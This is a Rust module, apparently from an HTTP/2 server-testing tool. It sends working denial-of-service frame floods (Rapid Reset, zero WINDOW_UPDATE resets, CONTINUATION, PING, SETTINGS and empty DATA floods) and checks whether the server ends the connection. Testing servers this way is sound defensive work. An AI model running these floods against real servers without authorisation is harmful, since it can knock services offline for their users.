//! Frames that cost a client little, by the thousand.

use super::{ANSWER, END_HEADERS, END_STREAM, body_request, request};
use crate::{
    context::Context,
    verdict::Finding,
    wire::{FrameType, Frames, encode, frame},
};

pub(crate) async fn rapid_reset(context: &Context) -> Finding {
    let block = request(context, "GET", context.control());
    let one = |stream: u32| {
        let mut bytes = frame(FrameType::Headers, END_HEADERS | END_STREAM, stream, &block);
        bytes.extend(frame(FrameType::Reset, 0, stream, &8u32.to_be_bytes()));
        bytes
    };
    let count = context.intensity.scale(20_000);
    flood(context, "streams, each opened and reset", count, one).await
}

pub(crate) async fn made_you_reset(context: &Context) -> Finding {
    let block = request(context, "GET", context.control());
    let one = |stream: u32| {
        let mut bytes = frame(FrameType::Headers, END_HEADERS, stream, &block);
        bytes.extend(frame(FrameType::WindowUpdate, 0, stream, &[0; 4]));
        bytes
    };
    let count = context.intensity.scale(20_000);
    flood(
        context,
        "streams, each with a WINDOW_UPDATE of 0",
        count,
        one,
    )
    .await
}

pub(crate) async fn continuation_flood(context: &Context) -> Finding {
    let mut frames = Frames::open(context).await?;
    let block = request(context, "GET", context.control());
    frames
        .send(FrameType::Headers, END_STREAM, 1, &block)
        .await?;
    let part = encode(&[("x-siege", &[b'a'; 1000])]);
    let mut sent = 0;
    while sent < 1 << 20 && !frames.is_over() {
        frames.send(FrameType::Continuation, 0, 1, &part).await?;
        sent += part.len();
        tokio::task::yield_now().await;
    }
    over(&frames, "1 MB of CONTINUATION frames").await
}

pub(crate) async fn ping_flood(context: &Context) -> Finding {
    let ping = frame(FrameType::Ping, 0, 0, &[7; 8]);
    flood(context, "PING frames", 50_000, |_| ping.clone()).await
}

pub(crate) async fn settings_flood(context: &Context) -> Finding {
    let settings = frame(FrameType::Settings, 0, 0, &[]);
    flood(context, "SETTINGS frames", 50_000, |_| settings.clone()).await
}

pub(crate) async fn empty_data_flood(context: &Context) -> Finding {
    let mut frames = Frames::open(context).await?;
    let block = body_request(context)?;
    frames
        .send(FrameType::Headers, END_HEADERS, 1, &block)
        .await?;
    let many = frame(FrameType::Data, 0, 1, &[]).repeat(100);
    for _ in 0..500 {
        context.budget.request()?;
        frames.write(&many).await?;
        if frames.is_over() || frames.seen().refused(1) {
            break;
        }
        tokio::task::yield_now().await;
    }
    frames.wait(ANSWER, |seen| seen.refused(1)).await;
    let seen = frames.seen();
    if seen.refused(1) {
        Ok("ended".to_owned())
    } else {
        let what = "50,000 DATA frames without data, and the stream goes on";
        Err(seen
            .evidence(what, "HEADERS, then empty DATA frames")
            .into())
    }
}

/// Sends until the server has enough, or everything is sent.
async fn flood(
    context: &Context,
    what: &str,
    count: usize,
    one: impl Fn(u32) -> Vec<u8>,
) -> Finding {
    let mut frames = Frames::open(context).await?;
    let mut sent = 0;
    while sent < count && !frames.is_over() {
        let mut bytes = Vec::new();
        for _ in 0..50 {
            context.budget.request()?;
            bytes.extend(one(sent as u32 * 2 + 1));
            sent += 1;
        }
        frames.write(&bytes).await?;
        tokio::task::yield_now().await;
    }
    over(&frames, &format!("{sent} {what}")).await
}

/// Whether the server has ended the connection.
async fn over(frames: &Frames, sent: &str) -> Finding {
    frames
        .wait(ANSWER, |seen| seen.closed || seen.goaway.is_some())
        .await;
    let seen = frames.seen();
    match (seen.goaway, seen.closed) {
        (Some(code), _) => Ok(format!("GOAWAY ({code})")),
        (None, true) => Ok("closed".to_owned()),
        (None, false) => Err(seen
            .evidence(format!("{sent}, and the connection goes on"), sent)
            .into()),
    }
}
